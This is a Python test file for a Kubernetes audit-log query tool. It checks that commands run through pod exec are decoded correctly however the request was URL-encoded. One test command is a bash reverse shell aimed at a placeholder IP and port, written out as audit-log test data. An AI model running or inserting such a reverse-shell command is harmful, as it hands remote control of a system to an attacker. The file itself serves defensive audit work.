"""KubeAuditCommands gives what ran in the pod, however the request was encoded."""

import json
import string
from collections.abc import Callable, Sequence
from datetime import UTC, datetime
from pathlib import Path
from random import Random
from urllib.parse import quote, quote_plus

import pytest

from log_generator.actors import person
from log_generator.audit_log import as_line
from log_generator.calls import Call, stages
from support.command import read, run

COMMANDS = (
    ("sh",),
    ("bash", "-c", "bash -i >& /dev/tcp/192.0.2.200/4444 0>&1"),
    ("sh", "-c", 'echo "a\\b" \\"c\\" | grep \'x\' && a=$(cat /x)'),
    ("echo", "%27", "%2F", "%252F", "%u0041", "\\u0041", "\\n", "a+b", "&stdin=", "?x=1"),
    ("printf", string.punctuation + string.ascii_letters + string.digits),
)


def each_letter(text: str) -> str:
    """Encode what need not be encoded, too, and mix the cases."""
    return "".join(f"%{ord(letter):02{'xX'[place % 2]}}" for place, letter in enumerate(text))


ENCODINGS = (quote_plus, quote, lambda text: quote(text, safe=""), each_letter)


def commands(
    capsys: pytest.CaptureFixture[str], folder: Path, queries: Sequence[str]
) -> list[tuple[str, int]]:
    """Each command that was run with these parameters, and how many rows tell of it."""
    calls = [
        Call(
            actor=person(0),
            verb="get",
            resource="pods",
            subresource="exec",
            namespace="shop",
            name=f"checkout-{number}",
            query=query,
            code=101,
            seconds=9,
        )
        for number, query in enumerate(queries)
    ]
    moment = datetime(2026, 3, 2, tzinfo=UTC)
    random = Random(7)  # noqa: S311 - for the ids of requests
    lines = [as_line(event) for call in calls for _, event in stages(call, moment, random)]
    (folder / "log.ndjson").write_bytes(b"".join(lines))
    read(folder / "log.store", folder / "log.ndjson")
    query = "KubeAuditCommands | summarize Command = take_any(Command), Rows = count() by Name"
    rows = json.loads(run(capsys, "query", query, folder / "log.store", "--format", "json")[1])
    found = {row["Name"]: (row["Command"], row["Rows"]) for row in rows}
    return [found[call.name] for call in calls]


@pytest.mark.parametrize("encode", ENCODINGS, ids=["form", "path", "all-marks", "each-letter"])
def test_a_command_is_given_as_it_ran_and_once(
    encode: Callable[[str], str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The server decodes once: what was encoded twice stays as it then is."""
    queries = [
        "&".join([*(f"command={encode(word)}" for word in words), "container=app", "tty=true"])
        for words in COMMANDS
    ]
    expected = [(" ".join(words), 1) for words in COMMANDS]
    assert commands(capsys, tmp_path, queries) == expected


def test_nothing_hides_behind_how_it_is_written(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Encoded names of parameters, other orders, bytes that are no text, broken encodings."""
    queries = {
        "%63ommand=%63at&stdout=true": "command=cat",
        "stdin=true&container=app&command=ls&stdout=true&command=-l": "ls -l",
        "command=cat&command=%2Fa%0Ab%09c%0D": "cat /a b c ",
        "command=a%00%80%zz%2": "a%00%80%zz%2",
        "command=raw%5c%22\\\"'": 'raw\\"\\"\'',
    }
    assert commands(capsys, tmp_path, list(queries)) == [(one, 1) for one in queries.values()]
